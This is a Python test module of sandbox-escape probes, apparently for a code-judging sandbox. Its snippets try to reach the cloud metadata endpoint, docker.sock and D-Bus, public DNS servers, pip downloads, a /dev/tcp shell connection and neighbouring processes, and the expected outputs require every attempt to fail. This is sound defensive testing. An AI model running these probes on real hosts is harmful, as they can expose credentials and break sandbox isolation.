"""Reaching anybody at all: the host, the neighbours, the internet."""

from __future__ import annotations

from attacks.attack import HOST_PORT, Attack

TARGETS = f"""
import socket

targets = [
    *((socket.AF_INET, (name, 80)) for name in ("192.168.0.1", "8.8.8.8", "169.254.169.254")),
    *((socket.AF_INET6, (name, 53)) for name in ("::1", "2001:4860:4860::8888")),
    *((socket.AF_UNIX, path) for path in ("/run/docker.sock", "/run/dbus/system_bus_socket", "\\0/tmp/.X11-unix/X0")),
    (socket.AF_INET, ("127.0.0.1", {HOST_PORT})),
    (socket.AF_INET6, ("::1", {HOST_PORT})),
]
reached = []
for family, address in targets:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        with socket.socket(family, kind) as s:
            s.settimeout(0.2)
            try:
                s.connect(address)
                s.send(b"solution?")
                reached.append((address, s.recv(10)))
            except OSError:
                pass
raise LookupError(f"reached {{reached}}")
"""

NAMES = """
import socket, urllib.request

reached = []
for name in ("pypi.org", "localhost.localdomain", "metadata.google.internal"):
    try:
        reached.append(socket.getaddrinfo(name, 80))
    except OSError:
        pass
try:
    reached.append(urllib.request.urlopen("http://pypi.org", timeout=1))
except OSError:
    pass
raise LookupError(f"reached {reached}")
"""

FAMILIES = """
import errno, socket

opened = set()
for family in range(3, 64):
    for kind in (1, 2, 3, 5):
        try:
            socket.socket(family, kind).close()
            opened.add(family)
        except OSError:
            pass
raise LookupError(f"besides ordinary ones: {sorted(opened - {socket.AF_INET6})}")
"""

DOWNLOAD = """
import os, subprocess, sys

pip = [sys.executable, "-m", "pip", "install", "--no-input", "--retries", "0", "--timeout", "1"]
tried = [
    subprocess.run([*pip, "a-package-with-the-solution"]),
    subprocess.run(["/bin/sh", "-c", "exec 3<>/dev/tcp/8.8.8.8/53"]),
]
raise LookupError(f"each failed: {all(done.returncode for done in tried)}")
"""

NEIGHBOURS = """
import socket, time

servers, heard = [], []
for family, address in ((socket.AF_UNIX, "\\0meet"), (socket.AF_INET, ("127.0.0.1", 47111))):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        s = socket.socket(family, kind)
        try:
            s.bind(address if kind == socket.SOCK_STREAM else (address + "2" if family == socket.AF_UNIX else address))
        except OSError:
            heard.append("somebody sits there")
            continue
        if kind == socket.SOCK_STREAM:
            s.listen()
        s.setblocking(False)
        servers.append(s)
for _ in range(5):
    for s in servers:
        try:
            heard.append(s.accept()[1] if s.type == socket.SOCK_STREAM else s.recv(10))
        except OSError:
            pass
    for family, address in ((socket.AF_INET, ("127.0.0.1", 47111)),):
        try:
            socket.create_connection(address, timeout=0.1).send(b"solution?")
            heard.append("connected")
        except OSError:
            pass
    time.sleep(0.1)
raise LookupError(f"heard {heard}")
"""

ATTACKS = (
    Attack(
        "connections",
        "connects to the host, its neighbours and the internet",
        "network",
        {"vocabulary": TARGETS},
        r"error: .*reached \[\]",
    ),
    Attack(
        "meeting-neighbours",
        "waits at abstract sockets and on the loopback device for answers that run at the same time",
        "network",
        {"vocabulary": NEIGHBOURS},
        r"error: .*heard \[\]",
    ),
    Attack(
        "names-and-web-pages",
        "looks up names and fetches a page",
        "network",
        {"vocabulary": NAMES},
        r"error: .*reached \[\]",
    ),
    Attack(
        "strange-socket-families",
        "sockets of every family there is, some of which no network namespace holds back",
        "seccomp",
        {"vocabulary": FAMILIES},
        r"error: .*besides ordinary ones: \[\]",
    ),
    Attack(
        "download",
        "has pip and the shell download for it",
        "network",
        {"vocabulary": DOWNLOAD},
        "error: .*each failed: True|timeout: ",
    ),
)
